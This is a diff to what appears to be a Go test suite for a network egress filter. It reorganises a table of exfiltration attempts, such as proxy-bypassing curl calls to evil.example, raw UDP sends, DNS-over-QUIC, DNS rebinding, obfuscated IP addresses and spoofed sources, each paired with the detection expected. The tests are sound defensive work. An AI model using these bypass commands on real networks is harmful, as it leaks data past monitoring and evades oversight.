@@ -62,10 +62,12 @@ def tcp(*to):
 
 func py(prelude, script string) string { return python + "'" + prelude + script + `' "$1"` }
 
-// networkRows are those of names, addresses and packets.
-func networkRows() map[string][]attack {
-	evilTCP := func(port uint16) func(egress.Line) bool { return packet("tcp", evilAddress, port) }
-	evilUDP := func(port uint16) func(egress.Line) bool { return packet("udp", evilAddress, port) }
+func evilTCP(port uint16) func(egress.Line) bool { return packet("tcp", evilAddress, port) }
+
+func evilUDP(port uint16) func(egress.Line) bool { return packet("udp", evilAddress, port) }
+
+// nameRows are those of names, and of connections to none.
+func nameRows() map[string][]attack {
 	return map[string][]attack{
 		"B1": {
 			{what: "no proxy", script: "unset http_proxy https_proxy; " + curl + "--noproxy '*' http://evil.example/$1", line: question("evil.example"), honest: curl + "http://good.example/$1"},
@@ -103,6 +105,16 @@ a = ask(T + ".evil.example"); s.sendto(a[:2] + b"\x81" + a[3:], ("192.0.2.53", 5
 			{what: "DoT at an allowed host", script: curl + "https://good.example:853/$1", line: because("no rule for port 853")},
 			{what: "DoQ", script: py(socketOf, `socket.socket(2, 2).sendto(T, ("`+evilAddress+`", 853))`), line: evilUDP(853)},
 		},
+		"B18": {
+			{what: "an allowed name that is rebound", script: "for i in 1 2 3; do " + curl + "http://rebind.example/$1; done", line: because("address")},
+		},
+		"B19": metadata(),
+	}
+}
+
+// packetRows are those of other protocols and other addresses.
+func packetRows() map[string][]attack {
+	return map[string][]attack{
 		"B7": {
 			{what: "sendto", script: py(socketOf, `socket.socket(2, 2).sendto(T, ("`+evilAddress+`", 443))`), line: evilUDP(443)},
 			{what: "sendmsg", script: py(socketOf, `socket.socket(2, 2).sendmsg([T], [], 0, ("`+evilAddress+`", 443))`), line: evilUDP(443)},
@@ -143,10 +155,6 @@ s = socket.socket(2, 2, 1); p = b"\x08\0\0\0\0\0\0\1" + T; s.sendto(p, ("`+evilA
 			{what: "hexadecimal", script: py(socketOf, `tcp("0x5db8d842", 80)`), line: evilTCP(80)},
 			{what: "three parts", script: py(socketOf, `tcp("93.184.55362", 80)`), line: evilTCP(80)},
 		},
-		"B18": {
-			{what: "an allowed name that is rebound", script: "for i in 1 2 3; do " + curl + "http://rebind.example/$1; done", line: because("address")},
-		},
-		"B19": metadata(),
 		"B25": {
 			{what: "a mark of packets", script: py(socketOf, `s = socket.socket(2, 2); s.setsockopt(1, 36, 1); s.sendto(T, ("`+evilAddress+`", 443))`), kernel: "PermissionError"},
 			{what: "a source address of another's", script: py(socketOf, `s = socket.socket(2, 2); s.setsockopt(0, 19, 1); s.bind(("10.9.9.9", 0)); s.sendto(T, ("`+evilAddress+`", 443))`), kernel: "PermissionError"},
